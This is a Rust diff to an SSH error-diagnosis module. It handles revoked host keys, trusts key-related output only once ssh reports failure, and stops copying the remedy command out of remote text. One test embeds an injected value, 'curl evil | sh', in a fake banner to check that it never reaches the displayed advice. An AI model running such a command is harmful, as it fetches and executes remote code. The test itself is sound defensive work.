@@ -42,6 +42,8 @@ pub enum Reason {
         /// The command that forgets the known one.
         remedy: Text,
     },
+    /// The host shows a key that has been revoked: whoever has it may be anybody.
+    HostKeyRevoked,
     /// Nobody has accepted the host's key yet.
     HostKeyUnknown,
     /// sshd lets nobody in.
@@ -72,6 +74,10 @@ impl fmt::Display for Reason {
                 "its host key has changed: it shows {fingerprint}. Somebody may be in the way; compare this \
                  with the host's own (`ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub`, at its console), and \
                  only if it is the same: `{remedy}`"
+            ),
+            Self::HostKeyRevoked => f.write_str(
+                "its host key is revoked: somebody else may have it. Never let it pass; ask whoever runs the host for a \
+                 new one",
             ),
             Self::HostKeyUnknown => f.write_str(
                 "its host key is not known: connect once by hand with ssh, compare the fingerprint, accept it",
@@ -145,8 +151,10 @@ fn is_closed_early(line: &str) -> bool {
 }
 
 fn by_lines(lines: &[&str]) -> Unreachable {
-    if let Some(at) = lines.iter().position(|line| line.contains("HOST IDENTIFICATION HAS CHANGED")) {
-        return changed(&lines[at..]);
+    // A host may print what looks like ssh's words on a key, but not once ssh has given up on its key.
+    let mut last = lines.iter().rev().filter(|line| !line.starts_with("Killed by signal"));
+    if last.next() == Some(&"Host key verification failed.") {
+        return Unreachable::new(by_key(lines), "");
     }
     let known = lines.iter().find_map(|line| Some((by_line(line)?, *line)));
     match known {
@@ -155,14 +163,29 @@ fn by_lines(lines: &[&str]) -> Unreachable {
     }
 }
 
-fn changed(lines: &[&str]) -> Unreachable {
-    let fingerprint = lines.iter().find(|line| line.starts_with("SHA256:") || line.starts_with("MD5:"));
-    let fingerprint = fingerprint.map_or("another one", |line| line.trim_end_matches('.'));
-    let remedy = lines.iter().find(|line| line.starts_with("ssh-keygen "));
-    let remedy = remedy.copied().unwrap_or("ssh-keygen -R HOST");
-    let reason =
-        Reason::HostKeyChanged { fingerprint: Text::cut(fingerprint, SAID), remedy: Text::cut(remedy, SAID) };
-    Unreachable::new(reason, "")
+/// What is the matter with a key. Nothing of the words is taken over but a fingerprint.
+fn by_key(lines: &[&str]) -> Reason {
+    let last = |words: &str| lines.iter().rposition(|line| line.contains(words));
+    if ["REVOKED HOST KEY", " was revoked ", " revoked by file "]
+        .into_iter()
+        .any(|words| last(words).is_some())
+    {
+        return Reason::HostKeyRevoked;
+    }
+    let Some(at) = last("HOST IDENTIFICATION HAS CHANGED") else { return Reason::HostKeyUnknown };
+    let fingerprint =
+        lines[at..].iter().map(|line| line.trim_end_matches('.')).find(|line| is_fingerprint(line));
+    Reason::HostKeyChanged {
+        fingerprint: Text::new(fingerprint.unwrap_or("another one")),
+        remedy: Text::from("ssh-keygen -R HOST"),
+    }
+}
+
+fn is_fingerprint(line: &str) -> bool {
+    let digits = line.strip_prefix("SHA256:").or(line.strip_prefix("MD5:"));
+    digits.is_some_and(|digits| {
+        digits.len() <= 64 && digits.chars().all(|c| c.is_ascii_alphanumeric() || "+/=:".contains(c))
+    })
 }
 
 /// What one line says, if it says anything.
@@ -176,8 +199,6 @@ fn by_line(line: &str) -> Option<Reason> {
         Reason::TimedOut
     } else if says(&["No route to host", "Network is unreachable", "Host is down"]) {
         Reason::NoRoute
-    } else if says(&["Host key verification failed", "host key is known for"]) {
-        Reason::HostKeyUnknown
     } else if says(&[
         "Permission denied (",
         "Too many authentication failures",
@@ -232,8 +253,8 @@ mod tests {
         its name cannot be resolved: check the destination (Could not resolve hostname nothing.invalid: Name or service not known)
         its name cannot be resolved: check the destination (Could not resolve hostname gpc0: Temporary failure in name resolution)
         no route: is the network or the VPN up? (connect to host 10.0.0.1 port 22: Network is unreachable)
-        its host key is not known: connect once by hand with ssh, compare the fingerprint, accept it (Host key verification failed.)
-        its host key is not known: connect once by hand with ssh, compare the fingerprint, accept it (No ED25519 host key is known for [127.0.0.1]:2 and you have requested strict checking.)
+        its host key is not known: connect once by hand with ssh, compare the fingerprint, accept it
+        its host key is not known: connect once by hand with ssh, compare the fingerprint, accept it
         not let in: does `ssh` by hand work without a question? (the key, the agent, the user's name) (root@127.0.0.1: Permission denied (publickey,password).)
         turned away before a word was said: too many connect at once (sshd's MaxStartups), or a filter (kex_exchange_identification: read: Connection reset by peer)
         turned away before a word was said: too many connect at once (sshd's MaxStartups), or a filter (Connection closed by 127.0.0.1 port 22)
@@ -258,8 +279,27 @@ Offending ED25519 key in /home/me/.ssh/known_hosts:1\r
   ssh-keygen -f \"/home/me/.ssh/known_hosts\" -R \"[127.0.0.1]:22977\"\r
 Host key for [127.0.0.1]:22977 has changed and you have requested strict checking.\r
 Host key verification failed.\r\n";
-        insta::assert_snapshot!(shown(printed), @r#"its host key has changed: it shows SHA256:6r0IiYwBJ7V8wsVmMYtO7bDttkXHt/zeLQOP+Zc6Rzw. Somebody may be in the way; compare this with the host's own (`ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub`, at its console), and only if it is the same: `ssh-keygen -f "/home/me/.ssh/known_hosts" -R "[127.0.0.1]:22977"`"#);
-        assert!(shown("WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!").contains("`ssh-keygen -R HOST`"));
+        insta::assert_snapshot!(shown(printed), @r#"its host key has changed: it shows SHA256:6r0IiYwBJ7V8wsVmMYtO7bDttkXHt/zeLQOP+Zc6Rzw. Somebody may be in the way; compare this with the host's own (`ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub`, at its console), and only if it is the same: `ssh-keygen -R HOST`"#);
+        // What stands there before ssh has the last word may be anybody's.
+        let banner = printed.replace("SHA256:6r0", "SHA256:mine; curl evil | sh #");
+        let words = shown(&format!("{banner}{printed}"));
+        assert!(words.contains("it shows SHA256:6r0I") && !words.contains("curl"), "{words}");
+        let words = shown(&format!("{banner}me@gpc0: Permission denied (publickey).\r\n"));
+        assert!(words.starts_with("not let in"), "{words}");
+    }
+
+    #[test]
+    fn a_revoked_key_is_never_to_be_accepted() {
+        for printed in [
+            "@       WARNING: REVOKED HOST KEY DETECTED!               @\r\n\
+             ED25519 host key for [127.0.0.1]:22 was revoked and you have requested strict checking.\r\n",
+            "Host key ED25519 SHA256:vi1KtnO8yW revoked by file /etc/ssh/revoked\r\n",
+        ] {
+            let words = shown(&format!("{printed}Host key verification failed.\r\n"));
+            insta::allow_duplicates! {
+                insta::assert_snapshot!(words, @"its host key is revoked: somebody else may have it. Never let it pass; ask whoever runs the host for a new one");
+            }
+        }
     }
 
     #[test]
